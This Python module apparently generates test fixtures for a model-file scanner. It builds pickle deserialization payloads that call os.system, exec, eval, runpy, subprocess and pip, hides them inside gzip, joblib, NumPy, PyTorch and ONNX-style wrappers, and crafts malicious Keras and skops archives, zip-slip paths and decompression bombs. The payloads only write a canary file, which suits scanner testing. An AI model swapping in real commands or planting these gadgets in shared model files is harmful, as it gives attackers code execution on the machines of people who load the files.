"""Files that execute something when somebody opens them carelessly: they write a canary."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np


class Gadget:
    """Pickles to a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def pickles(canary: Path) -> dict[str, bytes]:
    """Every way of calling something that scanners have missed at one time."""
    command = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w')"
    by_hand = {
        "global-reduce": f"cos\nsystem\n(S'{command}'\ntR.".encode(),
        "inst": f"(S'{command}'\nios\nsystem\n.".encode(),
        "obj": f"(cos\nsystem\nS'{command}'\no.".encode(),
        "nt-alias": f"cposix\nsystem\n(S'{command}'\ntR.".encode(),
        "builtins-exec": f'cbuiltins\nexec\n(S"{code}"\ntR.'.encode(),
        "builtins-eval": f'cbuiltins\neval\n(S"{code}"\ntR.'.encode(),
        "dotted-name": f"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c{chr(len(command))}{command}"
        "\x85R.".encode("latin-1"),
        "runpy": f'crunpy\n_run_code\n(S"{code}"\n(dtR.'.encode(),
        "pydoc-pipe": f"cpydoc\npipepager\n(S'x'\nS'{command}'\ntR.".encode(),
        "timeit": f'ctimeit\ntimeit\n(S"{code}"\ntR.'.encode(),
        "pip-main": b"cpip._internal\nmain\n((lS'install'\naS'evil'\natR.",
        "no-stop": f"cos\nsystem\n(S'{command}'\ntR".encode(),
        "broken-after": f"cos\nsystem\n(S'{command}'\ntR\xff\xff.".encode("latin-1"),
        "memo-games": f"cos\nsystem\np0\n0g0\n(S'{command}'\ntR.".encode(),
    }
    import os  # noqa: PLC0415 - what the gadgets call
    import subprocess  # noqa: PLC0415

    calls = {"os-system": Gadget(os.system, command), "popen": Gadget(subprocess.Popen, command)}
    made = {
        f"{name}-{protocol}": pickle.dumps(gadget, protocol)
        for name, gadget in calls.items()
        for protocol in (0, 2, 4, 5)
    }
    return by_hand | made


def wrapped(pickled: bytes) -> dict[str, bytes]:
    """A pickle in the wrappings that loaders open by themselves."""
    array = io.BytesIO()
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    array.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled)
    return {
        "gzip": gzip.compress(pickled),
        "zlib": zlib.compress(pickled),
        "joblib": b"ZF" + zlib.compress(pickled),
        "npy-of-objects": array.getvalue(),
        "npz-of-objects": archive({"arr_0.npy": array.getvalue()}),
        "torch": archive({"archive/data.pkl": pickled, "archive/version": b"3\n"}),
        "after-onnx-magic": b"\x08\x09\x12\x05evil\x00" + pickled,
    }


def keras_archives(canary: Path) -> dict[str, bytes]:
    """Keras archives whose configuration calls, whose layers hold code or name other files."""
    code = f"open({str(canary)!r}, 'w')"
    called = {"module": "os", "class_name": "system", "config": {"command": f"touch {canary}"}}
    layers = {
        "lambda": {"class_name": "Lambda", "config": {"function": {"code": code}}},
        "module-injection": called,
        "tfsm-layer": {"class_name": "TFSMLayer", "config": {"filepath": "/evil"}},
        "get-file": {"module": "keras.utils", "class_name": "get_file", "config": {"origin": "x"}},
    }
    made = {}
    for name, layer in layers.items():
        config = {"class_name": "Sequential", "config": {"layers": [layer]}}
        parts = {"config.json": json.dumps(config).encode(), "metadata.json": b"{}"}
        made[f"keras-{name}"] = archive(parts)
    made["keras-zip-slip"] = archive({"../../escaped": b"x", "config.json": b"{}"})
    made["hdf5"] = b"\x89HDF\r\n\x1a\n" + bytes(512)
    schema = {"__module__": "os", "__class__": "system", "__loader__": "FunctionNode"}
    made["skops-type"] = archive({"schema.json": json.dumps(schema).encode()})
    return made


def archive(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def bombs() -> dict[str, bytes]:
    """Small files that become large ones."""
    zeros = bytes(50_000_000)
    return {
        "gzip-bomb": gzip.compress(zeros),
        "zip-bomb": archive({"config.json": zeros}),
        "npz-bomb": archive({"arr_0.npy": np.lib.format.MAGIC_PREFIX + zeros}),
    }
